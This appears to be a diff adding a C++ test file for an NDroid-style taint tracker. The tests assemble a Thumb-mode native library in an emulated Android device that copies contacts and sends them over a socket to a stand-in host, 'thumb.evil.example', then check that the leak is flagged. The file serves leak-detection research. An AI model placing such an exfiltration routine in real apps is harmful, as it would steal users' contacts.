@@ -1,0 +1,119 @@
+// End-to-end leak detection through a THUMB-mode native library.
+//
+// The paper's tracer handles both ARM and Thumb instruction streams (§V-C:
+// 148 ARM + 73 Thumb instructions analysed; 101 + 55 handled). This test
+// builds a case-2-style app whose native method is Thumb code with its own
+// byte-copy loop — the taint must flow through Thumb LDRB/STRB via Table V
+// and reach the send() sink.
+#include <gtest/gtest.h>
+
+#include "arm/thumb_assembler.h"
+#include "core/ndroid.h"
+
+namespace ndroid::core {
+namespace {
+
+using android::Device;
+
+struct ThumbApp {
+  dvm::Method* entry = nullptr;
+};
+
+ThumbApp build_thumb_leaker(Device& device) {
+  // Data lives in the guest: host name string and a destination buffer.
+  const GuestAddr host = device.dvm.data_cstr("thumb.evil.example");
+  const GuestAddr buf = device.libc.malloc_guest(128);
+
+  const GuestAddr base = device.next_lib_base();
+  arm::ThumbAssembler t(base);
+  using arm::LR;
+  using arm::PC;
+  using arm::R;
+
+  // void leak(JNIEnv* r0, jclass r1, jstring r2)  [Thumb]
+  t.push({R(4), R(5), R(6), LR});
+  // p = GetStringUTFChars(env, jstr, 0)
+  t.mov(R(1), R(2));
+  t.movs_imm(R(2), 0);
+  t.call(device.jni.fn("GetStringUTFChars"));
+  t.mov(R(5), R(0));
+  // Thumb byte-copy loop: buf[i] = p[i] until NUL (inclusive).
+  t.load_imm32(R(6), buf);
+  arm::ThumbLabel loop;
+  t.bind(loop);
+  t.ldrb(R(3), R(5), 0);
+  t.strb(R(3), R(6), 0);
+  t.adds_imm8(R(5), 1);
+  t.adds_imm8(R(6), 1);
+  t.cmp_imm(R(3), 0);
+  t.b(loop, arm::Cond::kNE);
+  // fd = socket(2, 1, 0); connect(fd, host, 80)
+  t.movs_imm(R(0), 2);
+  t.movs_imm(R(1), 1);
+  t.movs_imm(R(2), 0);
+  t.call(device.libc.fn("socket"));
+  t.mov(R(4), R(0));
+  t.load_imm32(R(1), host);
+  t.movs_imm(R(2), 80);
+  t.call(device.libc.fn("connect"));
+  // n = strlen(buf); send(fd, buf, n)
+  t.load_imm32(R(0), buf);
+  t.call(device.libc.fn("strlen"));
+  t.mov(R(2), R(0));
+  t.mov(R(0), R(4));
+  t.load_imm32(R(1), buf);
+  t.call(device.libc.fn("send"));
+  t.movs_imm(R(0), 0);
+  t.pop({R(4), R(5), R(6), PC});
+
+  const auto image = t.finish();
+  device.load_native_lib("libthumbleak.so", image);
+
+  auto& dvm = device.dvm;
+  dvm::ClassObject* app = dvm.define_class("Lthumb/App;");
+  dvm::Method* leak = dvm.define_native(
+      app, "leak", "VL", dvm::kAccPublic | dvm::kAccStatic, base | 1);
+  dvm::Method* src = device.framework.contacts->find_method("queryContacts");
+  dvm::CodeBuilder cb;
+  cb.invoke(src, {}).move_result(0).invoke(leak, {0}).return_void();
+  dvm::Method* entry = dvm.define_method(
+      app, "main", "V", dvm::kAccPublic | dvm::kAccStatic, 1, cb.take());
+  return ThumbApp{entry};
+}
+
+TEST(ThumbScenario, LeakDetectedThroughThumbCode) {
+  Device device("com.thumb.app");
+  NDroid nd(device);
+  const ThumbApp app = build_thumb_leaker(device);
+  device.dvm.call(*app.entry, {});
+
+  // Ground truth: the contacts left the device.
+  EXPECT_EQ(device.kernel.network().bytes_sent_to("thumb.evil.example"),
+            "1|Vincent|cx@gg.com");
+  // NDroid flagged the native sink, taint propagated via Thumb instructions.
+  ASSERT_FALSE(nd.leaks().empty());
+  EXPECT_EQ(nd.leaks()[0].sink, "send");
+  EXPECT_EQ(nd.leaks()[0].taint, kTaintContacts);
+  EXPECT_GT(nd.tracer().instructions_traced(), 50u);
+}
+
+TEST(ThumbScenario, MissedByTaintDroidAlone) {
+  Device device("com.thumb.app");
+  const ThumbApp app = build_thumb_leaker(device);
+  device.dvm.call(*app.entry, {});
+  EXPECT_FALSE(
+      device.kernel.network().bytes_sent_to("thumb.evil.example").empty());
+  EXPECT_TRUE(device.framework.leaks().empty());
+}
+
+TEST(ThumbScenario, SourcePolicyAppliedAtThumbEntry) {
+  Device device("com.thumb.app");
+  NDroid nd(device);
+  const ThumbApp app = build_thumb_leaker(device);
+  device.dvm.call(*app.entry, {});
+  EXPECT_EQ(nd.dvm_hooks().source_policies_created, 1u);
+  EXPECT_EQ(nd.dvm_hooks().source_policies_applied, 1u);
+}
+
+}  // namespace
+}  // namespace ndroid::core
